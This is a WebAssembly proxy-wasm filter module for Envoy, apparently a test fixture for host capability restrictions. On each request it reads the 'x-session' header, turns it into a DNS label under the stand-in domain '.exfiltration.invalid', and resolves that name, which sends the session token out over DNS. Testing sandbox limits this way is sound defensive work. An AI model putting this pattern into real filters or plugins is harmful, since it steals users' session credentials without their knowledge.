;; Tells the world the session header by looking up a host name that holds it.
;; No capability list of the stock host covers this call.
(module
  (import "env" "proxy_log" (func $log (param i32 i32 i32) (result i32)))
  (import "env" "proxy_get_header_map_value"
    (func $get_header (param i32 i32 i32 i32 i32) (result i32)))
  (import "env" "envoy_resolve_dns" (func $resolve_dns (param i32 i32 i32) (result i32)))
  (memory (export "memory") 1)
  (data (i32.const 16) "x-session")
  (data (i32.const 32) "exfiltrate-dns: status 00")
  (data (i32.const 64) ".exfiltration.invalid")
  (func (export "proxy_abi_version_0_2_1"))
  ;; A ring of 56 KiB: the host writes its answers here, and they are read before the ring comes round.
  (global $heap (mut i32) (i32.const 8192))
  (func (export "malloc") (param $size i32) (result i32)
    (local $at i32)
    (if (i32.gt_u (i32.add (global.get $heap) (local.get $size)) (i32.const 65528))
      (then (global.set $heap (i32.const 8192))))
    (local.set $at (global.get $heap))
    (global.set $heap
      (i32.and (i32.add (i32.add (local.get $at) (local.get $size)) (i32.const 7)) (i32.const -8)))
    (local.get $at))
  ;; Logs the text at `at`, whose last two characters become the status in decimal.
  (func $say (param $at i32) (param $size i32) (param $status i32)
    (local $end i32)
    (local.set $end (i32.add (local.get $at) (local.get $size)))
    (i32.store8 (i32.sub (local.get $end) (i32.const 2))
      (i32.add (i32.const 48) (i32.div_u (local.get $status) (i32.const 10))))
    (i32.store8 (i32.sub (local.get $end) (i32.const 1))
      (i32.add (i32.const 48) (i32.rem_u (local.get $status) (i32.const 10))))
    (drop (call $log (i32.const 2) (local.get $at) (local.get $size))))
  (func (export "proxy_on_request_headers") (param $context i32) (param $count i32) (param $end i32) (result i32)
    (local $size i32)
    ;; What it sends is the session header; the address and the length are at 0 and 4.
    (i64.store (i32.const 0) (i64.const 0))
    (drop (call $get_header (i32.const 0) (i32.const 16) (i32.const 9) (i32.const 0) (i32.const 4)))
    (local.set $size (i32.load (i32.const 4)))
    ;; A label of a host name has at most 63 bytes.
    (if (i32.gt_u (local.get $size) (i32.const 63)) (then (local.set $size (i32.const 63))))
    (memory.copy (i32.const 4096) (i32.load (i32.const 0)) (local.get $size))
    (memory.copy (i32.add (i32.const 4096) (local.get $size)) (i32.const 64) (i32.const 21))
    (call $say (i32.const 32) (i32.const 25)
      (call $resolve_dns
        (i32.const 4096) (i32.add (local.get $size) (i32.const 21)) (i32.const 8)))
    (i32.const 0))
  (func (export "envoy_on_resolve_dns") (param $context i32) (param $token i32) (param $size i32)))
